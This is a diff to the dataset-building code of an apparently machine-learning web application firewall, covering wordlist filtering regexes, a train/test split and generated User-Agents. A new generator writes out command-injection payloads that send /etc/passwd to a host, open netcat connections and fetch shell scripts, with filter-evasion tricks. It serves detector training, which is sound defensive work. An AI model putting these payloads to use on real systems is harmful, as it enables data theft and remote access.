@@ -42,12 +42,24 @@ _WORDLISTS = (
 
 
 # Wordlists mix real payloads with bare command names and file names that are only
-# dangerous in a specific context ("trace", "index.php"). A line counts as an attack of
-# its family only if it carries that family's mark.
+# dangerous in a specific context ("trace", "index.php"), and fuzzdb's XSS lists carry
+# their vectors' descriptions ("Author Name: OWASP", "URL Encoding"). A line counts as an
+# attack of its family only if it carries that family's mark.
 _MARKS = {
-    "cmdi": re.compile(r"[;|&`$<>\n]|%0a|%3b|%7c|%26"),
+    "xss": re.compile(r"""[<>"'`(){}\[\];=\\]|javascript|vbscript|&#|%3c|%22|%27|%28"""),
+    # a shell metacharacter, or a command that takes its target: a binary's path, a code
+    # runner, a newline as the lists spell it, a command word with a flag, path or drive
+    "cmdi": re.compile(
+        r"[;|&`$<>\n]|%0a|%3b|%7c|%26|\\n|^/(usr/)?s?bin/|\b(eval|exec|system)\(|^[a-z]+[ +]+(-|/|[a-z]:)"
+    ),
     "traversal": re.compile(r"\.\.|%2e|%c0|%c1|%u|%25|://|%00|\x00|\\0|/etc/|/proc/|win\.ini|boot\.ini|system32"),
 }
+
+
+def marked(text: str, family: str) -> bool:
+    """Whether the text carries its family's mark (families without one always do)."""
+    mark = _MARKS.get(family)
+    return mark is None or mark.search(text.lower()) is not None
 
 
 @dataclass(frozen=True)
@@ -58,10 +70,8 @@ class Sample:
 
 
 # Fuzzing templates name their target with a placeholder ("/../../{FILE}", "; {cmd}"), which
-# a fuzzer fills in before it sends anything. The test split's are filled in (the choice
-# depends only on the template), so that the model is tested on what reaches a server. The
-# training side keeps them as they are (the shipped model was trained on them so), and a
-# filled-in test value it happens to hold leaves the test.
+# a fuzzer fills in before it sends anything. Both sides' are filled in (the choice depends
+# only on the template), so that the model learns and is tested on what reaches a server.
 _PLACEHOLDER = re.compile(r"\{(file|cmd)\}", re.IGNORECASE)
 _TARGETS = {
     "file": (
@@ -105,12 +115,7 @@ def wordlists(root: Path) -> list[Sample]:
     for pattern, family in _WORDLISTS:
         for path in sorted(root.glob(pattern)):
             if path.is_file() and path.suffix.lower() not in {".md", ".doc"} and "README" not in path.name:
-                mark = _MARKS.get(family)
-                out += [
-                    Sample(text, family, pattern.split("/", 1)[0])
-                    for text in _lines(path)
-                    if mark is None or mark.search(text.lower())
-                ]
+                out += [Sample(text, family, pattern.split("/", 1)[0]) for text in _lines(path) if marked(text, family)]
     return out
 
 
@@ -286,6 +291,40 @@ def generated_benign(count: int, seed: int) -> list[Sample]:
     return [Sample(rng.choice(makers)(), "benign", "generated") for _ in range(count)]
 
 
+_SEPARATORS = (";", "|", "||", "&", "&&", "\n", "%0a", "`", "$(")
+_CALLOUTS = (
+    *("nslookup {host}", "dig {host}", "host {host}", "getent hosts {host}", "ping -c 1 {host}", "ping -n 1 {host}"),
+    *("curl http://{host}/{word}", "wget http://{host}/{word}.sh", "curl -d @/etc/passwd {host}", "nc {host} 4444"),
+)
+_TLDS = ("com", "net", "org", "io", "xyz", "site")
+
+
+def generated_commands(count: int, seed: int) -> list[Sample]:
+    """Blind command injections that call out to the attacker's host (a DNS lookup, a ping,
+    a download), which the payload lists hold few of: a separator, a network command with a
+    generated host name, sometimes a closing separator, spaces sometimes written another way."""
+    rng = random.Random(seed)
+
+    def host() -> str:
+        label = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rng.randint(6, 20)))
+        middle = f".{rng.choice(_WORDS)}" if rng.random() < 0.7 else ""
+        return f"{label}{middle}.{rng.choice(_TLDS)}"
+
+    out = []
+    for _ in range(count):
+        separator = rng.choice(_SEPARATORS)
+        command = rng.choice(_CALLOUTS).format(host=host(), word=rng.choice(_WORDS))
+        if separator in {"`", "$("}:
+            body = f"`{command}`" if separator == "`" else f"$({command})"
+        else:
+            body = separator + command + rng.choice(("", "", "&", ";", "|", "#", separator))
+        if rng.random() < 0.3:
+            body = body.replace(" ", rng.choice(("+", "${IFS}", "%20", "\t")))
+        prefix = rng.choice(("", "", "127.0.0.1", "1", rng.choice(_WORDS)))
+        out.append(Sample(prefix + body, "cmdi", "generated-commands"))
+    return out
+
+
 _B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
 
 
@@ -355,8 +394,9 @@ _TOOLS = (
 
 
 def generated_agents(count: int, seed: int, source: str = "generated-agents") -> list[Sample]:
-    """User-Agent headers as browsers, phones, crawlers, apps and tools send them, to test how
-    the analyzer reads that header (``mlwaf evaluate``); the model never trained on any."""
+    """User-Agent headers as browsers, phones, crawlers, apps and tools send them: benign
+    training values (the analyzer scores a User-Agent that is not plain) and, from another
+    seed, a test of how the analyzer reads that header (``mlwaf evaluate``)."""
     rng = random.Random(seed)
 
     def version(parts: int) -> str:
@@ -392,6 +432,16 @@ def generated_agents(count: int, seed: int, source: str = "generated-agents") ->
         lambda: f"Opera/9.80 ({rng.choice(_PLATFORMS)}; U; en) Presto/2.12.388 Version/12.16",
     )
     return [Sample(rng.choice(makers)(), "benign", source) for _ in range(count)]
+
+
+TRAINING_AGENTS = 6000  # generated User-Agents on the training side
+
+
+def unseen_agents(seed: int) -> list[Sample]:
+    """Generated User-Agents for the test, from another seed, less those the training side
+    drew too (crawlers and tools repeat)."""
+    drawn = {s.text for s in generated_agents(TRAINING_AGENTS, seed)}
+    return [s for s in generated_agents(5000, seed + 1000, "generated-agents-test") if s.text not in drawn]
 
 
 def real_agents(root: Path) -> list[Sample]:
@@ -505,12 +555,14 @@ def training_and_test(root: Path, seed: int = 7) -> tuple[list[Sample], list[Sam
     Test: HttpParamsDataset's own test file, gotestwaf's cases, mgm's benign
     look-alikes, generated tokens from another seed and labels made of the other half of
     the licence words. Training: everything else (the three overlapping payload
-    collections stay together on the training side), less the attack lists' probes (``_probe``).
+    collections stay together on the training side), less the attack lists' probes
+    (``_probe``) and any value the test holds. Templates are filled in on both sides first.
     """
     csic = csic_benign(root)
     train = httpparams(root, "train") + wordlists(root) + csic
     tokens = generated_tokens(20000, seed)
-    train += generated_benign(30000, seed) + tokens + licence_prose(20000)
+    train += generated_benign(30000, seed) + tokens + licence_prose(20000) + generated_agents(TRAINING_AGENTS, seed)
+    train += generated_commands(1500, seed)
     # label words: the training side's own (CSIC's Spanish names and streets, the licences'
     # first half, the generator's), never a test label's word
     words = {w.lower() for s in csic for w in re.findall(r"[A-Za-z]{3,12}", s.text)}
@@ -523,11 +575,9 @@ def training_and_test(root: Path, seed: int = 7) -> tuple[list[Sample], list[Sam
     test = httpparams(root, "test") + gotestwaf(root) + mgm_lookalikes(root)
     test += [s for s in generated_tokens(5000, seed + 1000, "generated-tokens-test") if s.text not in drawn]
     test += generated_labels(3000, seed + 1000, licence_words(1), "generated-labels-test")
+    test = [filled(s) for s in test]
     test_texts = {s.text for s in test}
-    train = [s for s in train if s.text not in test_texts and not _probe(s)]
-    # filled-in templates the training side already holds (a few traversals) leave the test
-    train_texts = {s.text for s in train}
-    test = [done for done in map(filled, test) if done.text not in train_texts]
+    train = [done for done in map(filled, train) if done.text not in test_texts and not _probe(done)]
     return train, test
 
 
